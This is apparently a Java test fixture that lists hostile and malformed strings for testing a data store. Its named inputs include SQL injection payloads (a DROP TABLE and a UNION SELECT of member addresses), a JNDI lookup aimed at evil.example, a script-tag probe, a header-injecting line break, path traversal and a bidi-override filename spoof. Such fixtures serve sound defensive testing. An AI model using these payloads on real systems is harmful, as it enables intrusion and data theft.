package org.lastmile.store;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** What people type, paste and try, by what is wrong with it. */
final class HostileTexts {
    /** No column can hold these, or no index. */
    static final List<String> UNSTORABLE =
            List.of("\uD800", "\uDC00x", "a\uD83D", "\0", "a\0b", "\u0001", "x".repeat(1_000_000), "", " ");

    /** Different to a reader of bytes, the same to some collation, trimming or normalisation. */
    static final List<String> TWINS = List.of(
            "straße",
            "STRASSE",
            "strasse",
            "straße ",
            "straße\u00A0",
            " straße",
            "stra\u200Bße",
            "Zo\u00EB",
            "Zoe\u0308",
            "Zoe",
            "zoe",
            "\uFF3Aoe",
            "I",
            "i",
            "\u0130",
            "\u0131",
            "?",
            "??",
            "\uFFFD",
            "%",
            "_",
            "\uD83C\uDF89",
            "\uD83C\uDF88");

    private HostileTexts() {}

    static Map<String, String> all() {
        var texts = new LinkedHashMap<String, String>();
        texts.put("right to left", "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627");
        texts.put("bidi override", "\u202Egpj.exe\u202C \u2066x\u2069");
        texts.put("beyond the BMP", "\uD83C\uDF89\uD83D\uDC68\u200D\uD83D\uDC69 \uD835\uDD4F");
        texts.put("a tower of marks", "z" + "\u0351\u0489".repeat(60));
        texts.put("line separators", "a\u2028b\u2029c");
        texts.put("byte order mark", "\uFEFFx");
        texts.put("noncharacter", "a\uFFFFb\uFFFE");
        texts.put("half a pair", "a\uD800b");
        texts.put("the other half", "\uDC00");
        texts.put("nul", "a\0b");
        texts.put("control", "a\u001B[31mb");
        texts.put("C1 control", "a\u0085b");
        texts.put("line break", "a\r\nBcc: all");
        texts.put("quotes", "a'b\"c`d''e\\'f\\");
        texts.put("injection", "x'); DROP TABLE lm_goal; --");
        texts.put("injection by union", "x' UNION SELECT name, addresses FROM lm_member /*");
        texts.put("a comment", "/* x */ -- y # z");
        texts.put("wildcards", "%_[a-z]*?");
        texts.put("parameters", "? ?1 $1 :x ${prefix} #{x} {0} %s %n");
        texts.put("JNDI", "${jndi:ldap://evil.example/a}");
        texts.put("markup", "<script>alert(1)</script>&amp;");
        texts.put("slashes", "../..//%2F%25/@2.1");
        texts.put("word of the engine", "NULL");
        texts.put("trailing space", "trailing ");
        texts.put("not normal", "e\u0301 \u212B");
        texts.put("empty", "");
        texts.put("blank", " \t ");
        texts.put("ideographic space", "\u3000");
        texts.put("10 MB", "x".repeat(10_000_000));
        texts.put("10 MB of pairs", "\uD83C\uDF89".repeat(5_000_000));
        return texts;
    }
}
